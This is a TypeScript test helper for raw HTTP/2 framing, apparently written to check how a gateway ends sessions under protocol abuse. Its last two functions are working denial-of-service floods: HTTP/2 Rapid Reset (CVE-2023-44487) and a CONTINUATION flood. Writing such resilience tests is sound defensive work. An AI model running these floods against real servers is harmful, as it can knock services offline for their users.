// Raw HTTP/2 frames (RFC 9113 §4, §6), for attacks that only exist as frames:
// a client library would never send a HEADERS frame followed by endless
// CONTINUATION frames, or thousands of streams reset as soon as they are
// opened. Writes frames as bytes and reads the peer's frames back, so a test
// sees the GOAWAY (and its error code) and the close it answers with.
import { connect as connectTcp, type Socket } from 'node:net';
import { connect as connectTls, type TLSSocket } from 'node:tls';

/** Frame types, RFC 9113 §6. */
export const FRAME = {
  DATA: 0x0,
  HEADERS: 0x1,
  PRIORITY: 0x2,
  RST_STREAM: 0x3,
  SETTINGS: 0x4,
  PUSH_PROMISE: 0x5,
  PING: 0x6,
  GOAWAY: 0x7,
  WINDOW_UPDATE: 0x8,
  CONTINUATION: 0x9,
} as const;

/** Frame flags, RFC 9113 §6. ACK shares END_STREAM's bit (SETTINGS and PING only). */
export const FLAG = {
  END_STREAM: 0x1,
  ACK: 0x1,
  END_HEADERS: 0x4,
  PADDED: 0x8,
  PRIORITY: 0x20,
} as const;

/** Error codes of RST_STREAM and GOAWAY, RFC 9113 §7. */
export const H2_ERROR = {
  NO_ERROR: 0x0,
  PROTOCOL_ERROR: 0x1,
  INTERNAL_ERROR: 0x2,
  FLOW_CONTROL_ERROR: 0x3,
  SETTINGS_TIMEOUT: 0x4,
  STREAM_CLOSED: 0x5,
  FRAME_SIZE_ERROR: 0x6,
  REFUSED_STREAM: 0x7,
  CANCEL: 0x8,
  COMPRESSION_ERROR: 0x9,
  CONNECT_ERROR: 0xa,
  ENHANCE_YOUR_CALM: 0xb,
  INADEQUATE_SECURITY: 0xc,
  HTTP_1_1_REQUIRED: 0xd,
} as const;

/** SETTINGS identifiers, RFC 9113 §6.5.2. */
export const SETTING = {
  HEADER_TABLE_SIZE: 0x1,
  ENABLE_PUSH: 0x2,
  MAX_CONCURRENT_STREAMS: 0x3,
  INITIAL_WINDOW_SIZE: 0x4,
  MAX_FRAME_SIZE: 0x5,
  MAX_HEADER_LIST_SIZE: 0x6,
} as const;

/** The client connection preface, RFC 9113 §3.4. */
export const CLIENT_PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

export interface Frame {
  readonly type: number;
  readonly flags: number;
  readonly streamId: number;
  readonly payload: Buffer;
}

export interface Goaway {
  readonly lastStreamId: number;
  readonly errorCode: number;
  readonly debug: string;
}

/** One frame as bytes: the 9-byte header (RFC 9113 §4.1) and its payload. */
export function encodeFrame(
  type: number,
  flags: number,
  streamId: number,
  payload: Uint8Array = Buffer.alloc(0),
): Buffer {
  const frame = Buffer.alloc(9 + payload.length);
  frame.writeUIntBE(payload.length, 0, 3);
  frame[3] = type;
  frame[4] = flags;
  frame.writeUInt32BE(streamId & 0x7fffffff, 5);
  frame.set(payload, 9);
  return frame;
}

/** An HPACK integer with an N-bit prefix (RFC 7541 §5.1); `high` holds the bits above the prefix. */
function hpackInteger(value: number, prefixBits: number, high = 0): Buffer {
  const max = (1 << prefixBits) - 1;
  if (value < max) return Buffer.from([high | value]);
  const bytes = [high | max];
  let rest = value - max;
  while (rest >= 128) {
    bytes.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  bytes.push(rest);
  return Buffer.from(bytes);
}

/** An HPACK string literal without Huffman coding (RFC 7541 §5.2). */
function hpackString(text: string): Buffer {
  const bytes = Buffer.from(text, 'latin1');
  return Buffer.concat([hpackInteger(bytes.length, 7), bytes]);
}

/**
 * A header block of literal fields without indexing and with new names
 * (RFC 7541 §6.2.2): no table state on either side, so blocks can be cut,
 * repeated and sent in any order. Names must already be lower-case.
 */
export function encodeHeaderBlock(fields: readonly (readonly [string, string])[]): Buffer {
  return Buffer.concat(
    fields.flatMap(([name, value]) => [Buffer.from([0x00]), hpackString(name), hpackString(value)]),
  );
}

/** The pseudo-header fields of a request, then `extra`. */
export function requestFields(
  path: string,
  options: {
    method?: string;
    authority?: string;
    scheme?: string;
    extra?: readonly (readonly [string, string])[];
  } = {},
): [string, string][] {
  return [
    [':method', options.method ?? 'GET'],
    [':scheme', options.scheme ?? 'http'],
    [':authority', options.authority ?? 'localhost'],
    [':path', path],
    ...(options.extra ?? []).map(([n, v]): [string, string] => [n, v]),
  ];
}

export function settingsFrame(settings: readonly (readonly [number, number])[] = []): Buffer {
  const payload = Buffer.alloc(6 * settings.length);
  settings.forEach(([id, value], i) => {
    payload.writeUInt16BE(id, 6 * i);
    payload.writeUInt32BE(value, 6 * i + 2);
  });
  return encodeFrame(FRAME.SETTINGS, 0, 0, payload);
}

export function headersFrame(
  streamId: number,
  block: Uint8Array,
  options: { endStream?: boolean; endHeaders?: boolean } = {},
): Buffer {
  const flags =
    ((options.endStream ?? true) ? FLAG.END_STREAM : 0) |
    ((options.endHeaders ?? true) ? FLAG.END_HEADERS : 0);
  return encodeFrame(FRAME.HEADERS, flags, streamId, block);
}

export function continuationFrame(streamId: number, block: Uint8Array, endHeaders = false): Buffer {
  return encodeFrame(FRAME.CONTINUATION, endHeaders ? FLAG.END_HEADERS : 0, streamId, block);
}

export function dataFrame(streamId: number, data: Uint8Array, endStream = false): Buffer {
  return encodeFrame(FRAME.DATA, endStream ? FLAG.END_STREAM : 0, streamId, data);
}

export function rstStreamFrame(streamId: number, errorCode: number = H2_ERROR.CANCEL): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(errorCode);
  return encodeFrame(FRAME.RST_STREAM, 0, streamId, payload);
}

export function pingFrame(opaque: Uint8Array = Buffer.alloc(8), ack = false): Buffer {
  return encodeFrame(FRAME.PING, ack ? FLAG.ACK : 0, 0, opaque);
}

export function goawayFrame(lastStreamId: number, errorCode: number = H2_ERROR.NO_ERROR): Buffer {
  const payload = Buffer.alloc(8);
  payload.writeUInt32BE(lastStreamId & 0x7fffffff, 0);
  payload.writeUInt32BE(errorCode, 4);
  return encodeFrame(FRAME.GOAWAY, 0, 0, payload);
}

export function decodeGoaway(frame: Frame): Goaway {
  return {
    lastStreamId: frame.payload.readUInt32BE(0) & 0x7fffffff,
    errorCode: frame.payload.readUInt32BE(4),
    debug: frame.payload.subarray(8).toString('utf8'),
  };
}

export function decodeRstStream(frame: Frame): number {
  return frame.payload.readUInt32BE(0);
}

export interface RawH2Options {
  readonly host?: string;
  /** Speak TLS with ALPN h2; the gateway's certificate is checked against `ca` when given. */
  readonly tls?: { readonly servername?: string; readonly ca?: string | Buffer };
  /** Settings sent after the preface. */
  readonly settings?: readonly (readonly [number, number])[];
}

type Waiter = { match: (frame: Frame) => boolean; resolve: (frame: Frame) => void };

/**
 * One raw HTTP/2 connection: the preface and a SETTINGS frame are sent on
 * connect, the peer's SETTINGS are acknowledged (a real client would, and a
 * server may close a connection that never does); everything else is up to
 * the test. Frames received are kept in order in `frames`.
 */
export class RawH2Connection {
  readonly socket: Socket | TLSSocket;
  readonly frames: Frame[] = [];
  /** Resolves once the peer closed the connection (or it failed). */
  readonly closed: Promise<void>;
  /** The socket's error, if it had one (a reset when the server closes mid-write). */
  error: Error | undefined;
  #pending: Buffer = Buffer.alloc(0);
  #waiters: Waiter[] = [];
  #isClosed = false;

  private constructor(socket: Socket | TLSSocket) {
    this.socket = socket;
    this.error = undefined;
    socket.on('data', (chunk: Buffer) => this.#onData(chunk));
    // A write racing the server's close fails with EPIPE or ECONNRESET: that is the close.
    socket.on('error', (err) => {
      this.error ??= err;
    });
    this.closed = new Promise((resolve) => {
      socket.once('close', () => {
        this.#isClosed = true;
        resolve();
      });
    });
  }

  static connect(port: number, options: RawH2Options = {}): Promise<RawH2Connection> {
    const host = options.host ?? '127.0.0.1';
    return new Promise((resolve, reject) => {
      const socket: Socket | TLSSocket = options.tls
        ? connectTls({
            host,
            port,
            servername: options.tls.servername,
            ca: options.tls.ca,
            ALPNProtocols: ['h2'],
          })
        : connectTcp(port, host);
      socket.once(options.tls ? 'secureConnect' : 'connect', () => {
        socket.off('error', reject);
        const connection = new RawH2Connection(socket);
        connection.write(CLIENT_PREFACE, settingsFrame(options.settings ?? []));
        resolve(connection);
      });
      socket.once('error', reject);
    });
  }

  get isClosed(): boolean {
    return this.#isClosed;
  }

  /**
   * Writes bytes as they are; resolves once the socket took them (or is
   * closed) and the event loop had a turn. A write that the kernel takes at
   * once calls back on the next tick, so a loop of awaited writes would never
   * read what the peer sends: its GOAWAY would be lost in the reset that a
   * close with unread bytes causes.
   */
  write(...chunks: Buffer[]): Promise<void> {
    const bytes = chunks.length === 1 ? chunks[0] : Buffer.concat(chunks);
    if (this.socket.destroyed) return this.closed;
    return new Promise((resolve) => {
      this.socket.write(bytes, () => setImmediate(resolve));
    });
  }

  /**
   * Resolves once SETTINGS went both ways and each side acknowledged the
   * other's: the server's limits are in force, and no SETTINGS ACK of ours
   * is still to come (one written inside a header block would be a
   * protocol error of our own).
   */
  async settled(): Promise<void> {
    await this.nextFrame((f) => f.type === FRAME.SETTINGS && (f.flags & FLAG.ACK) === 0);
    await this.nextFrame((f) => f.type === FRAME.SETTINGS && (f.flags & FLAG.ACK) !== 0);
  }

  /**
   * How the peer ended the connection: its GOAWAY, or `reset` when the
   * connection closed without one reaching us (a server that closes with our
   * bytes unread resets the connection, and the reset can overtake its GOAWAY).
   */
  async ending(): Promise<Goaway | 'reset'> {
    await this.closed;
    const frame = this.frames.find((f) => f.type === FRAME.GOAWAY);
    return frame ? decodeGoaway(frame) : 'reset';
  }

  /** A request's HEADERS frame with the whole block in it. */
  request(
    streamId: number,
    path: string,
    options: { endStream?: boolean; extra?: readonly (readonly [string, string])[] } = {},
  ): Promise<void> {
    const block = encodeHeaderBlock(requestFields(path, { extra: options.extra }));
    return this.write(headersFrame(streamId, block, { endStream: options.endStream }));
  }

  /** The next received frame (already received or still to come) that `match` accepts. */
  nextFrame(match: (frame: Frame) => boolean = () => true, from = 0): Promise<Frame> {
    for (let i = from; i < this.frames.length; i++) {
      if (match(this.frames[i])) return Promise.resolve(this.frames[i]);
    }
    return new Promise((resolve, reject) => {
      const waiter: Waiter = { match, resolve };
      this.#waiters.push(waiter);
      this.closed.then(() => {
        const at = this.#waiters.indexOf(waiter);
        if (at === -1) return;
        this.#waiters.splice(at, 1);
        reject(new Error('the connection closed before the frame came'));
      });
    });
  }

  /** The peer's GOAWAY, or undefined when it closed without sending one. */
  async goaway(): Promise<Goaway | undefined> {
    try {
      return decodeGoaway(await this.nextFrame((f) => f.type === FRAME.GOAWAY));
    } catch {
      return undefined;
    }
  }

  /** DATA payloads of one stream received so far, joined. */
  body(streamId: number): Buffer {
    return Buffer.concat(
      this.frames
        .filter((f) => f.type === FRAME.DATA && f.streamId === streamId)
        .map((f) => f.payload),
    );
  }

  close(): Promise<void> {
    this.socket.destroy();
    return this.closed;
  }

  #onData(chunk: Buffer): void {
    this.#pending = this.#pending.length === 0 ? chunk : Buffer.concat([this.#pending, chunk]);
    while (this.#pending.length >= 9) {
      const length = this.#pending.readUIntBE(0, 3);
      if (this.#pending.length < 9 + length) break;
      const frame: Frame = {
        type: this.#pending[3],
        flags: this.#pending[4],
        streamId: this.#pending.readUInt32BE(5) & 0x7fffffff,
        payload: Buffer.from(this.#pending.subarray(9, 9 + length)),
      };
      this.#pending = this.#pending.subarray(9 + length);
      this.#receive(frame);
    }
  }

  #receive(frame: Frame): void {
    this.frames.push(frame);
    if (frame.type === FRAME.SETTINGS && (frame.flags & FLAG.ACK) === 0 && !this.socket.destroyed) {
      this.socket.write(encodeFrame(FRAME.SETTINGS, FLAG.ACK, 0));
    }
    const waiters = this.#waiters;
    this.#waiters = [];
    for (const w of waiters) {
      if (w.match(frame)) w.resolve(frame);
      else this.#waiters.push(w);
    }
  }
}

function ended(c: RawH2Connection): boolean {
  return c.isClosed || c.frames.some((f) => f.type === FRAME.GOAWAY);
}

/**
 * Rapid reset (CVE-2023-44487): streams opened and reset at once, in batches,
 * until the peer ends the session or `streams` were sent. Returns the streams sent.
 */
export async function rapidReset(c: RawH2Connection, streams = 5000, batch = 100): Promise<number> {
  const block = encodeHeaderBlock(requestFields('/flood'));
  let sent = 0;
  let id = 1;
  while (sent < streams && !ended(c)) {
    const frames: Buffer[] = [];
    for (let i = 0; i < batch && sent < streams; i++, sent++, id += 2) {
      frames.push(headersFrame(id, block), rstStreamFrame(id));
    }
    await c.write(...frames);
  }
  return sent;
}

/**
 * CONTINUATION flood (CVE-2024-27316 class): a header block that never ends,
 * CONTINUATION frames of `pieceBytes` until the peer ends the session. Waits
 * for the SETTINGS exchange first: our ACK inside the block would be a
 * protocol error of our own. Returns the frames sent; throws past `limit`.
 */
export async function continuationFlood(
  c: RawH2Connection,
  pieceBytes = 1000,
  limit = 100_000,
): Promise<number> {
  await c.settled();
  await c.write(headersFrame(1, encodeHeaderBlock(requestFields('/flood')), { endHeaders: false }));
  const piece = encodeHeaderBlock([['x-filler', 'f'.repeat(pieceBytes)]]);
  let sent = 0;
  while (!ended(c)) {
    if (sent >= limit) throw new Error(`the peer took ${limit} CONTINUATION frames`);
    await c.write(continuationFrame(1, piece));
    sent++;
  }
  return sent;
}
